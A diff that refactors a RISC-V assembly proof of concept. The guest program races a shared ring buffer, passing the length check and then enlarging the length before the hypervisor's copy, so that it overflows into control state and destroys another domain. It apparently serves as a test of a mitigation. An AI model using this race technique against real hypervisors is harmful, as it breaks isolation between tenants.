@@ -10,20 +10,18 @@
 # With dgram.copy_then_validate on, the backend copies the request once and
 # the late change to `len` has no effect: destroy is denied.
 
-.equ VMCTL,  0x09000001
-.equ DGRAM,  0x09000003
-.equ DBCN,   0x4442434E
+.include "lib/sbi.S"        # EID_..., the hypercall numbers
 .equ VICTIM, 2
 
 .text
 .globl _start
 _start:
-    li   a7, VMCTL
-    li   a6, 0              # self(): our domid, the value we smuggle in
+    li   a7, EID_VMCTL
+    li   a6, VMCTL_SELF     # self(): our domid, the value we smuggle in
     ecall
     mv   s1, a1
-    li   a7, DGRAM
-    li   a6, 2              # ring_setup(ring)
+    li   a7, EID_DGRAM
+    li   a6, DG_RING        # ring_setup(ring)
     la   a0, ring
     ecall
     la   s0, ring
@@ -32,8 +30,8 @@ _start:
     li   t0, 16
     sw   t0, 8(s0)          # len = 16: passes the doorbell's check
     sw   s1, 0x110(s0)      # data[256]: what lands behind the backend's buffer
-    li   a7, DGRAM
-    li   a6, 3              # doorbell()
+    li   a7, EID_DGRAM
+    li   a6, DG_DOORBELL    # doorbell()
     ecall
     li   t0, 260
     sw   t0, 8(s0)          # len = 260: too late for the check, in time for the copy
@@ -44,8 +42,8 @@ _start:
     j    1b
 2:  la   a0, raced
     call puts
-    li   a7, VMCTL
-    li   a6, 5              # destroy(VICTIM): only the control domain may
+    li   a7, EID_VMCTL
+    li   a6, VMCTL_DESTROY  # destroy(VICTIM): only the control domain may
     li   a0, VICTIM
     ecall
     bnez a0, 3f
@@ -57,22 +55,7 @@ _start:
 4:  wfi
     j    4b
 
-# puts(a0 = NUL-terminated string): print through the debug console
-puts:
-    mv   t0, a0
-    li   t1, 0
-1:  add  t2, t0, t1
-    lbu  t2, 0(t2)
-    beqz t2, 2f
-    addi t1, t1, 1
-    j    1b
-2:  li   a7, DBCN
-    li   a6, 0
-    mv   a1, t0
-    mv   a0, t1
-    li   a2, 0
-    ecall
-    ret
+.include "lib/dbcn.S"      # puts(a0): print through the debug console
 
 raced: .asciz "racer: request completed; trying VMCTL destroy(2)\n"
 won:   .asciz "racer: destroy(2) succeeded: the hypervisor thinks we are the control domain\n"
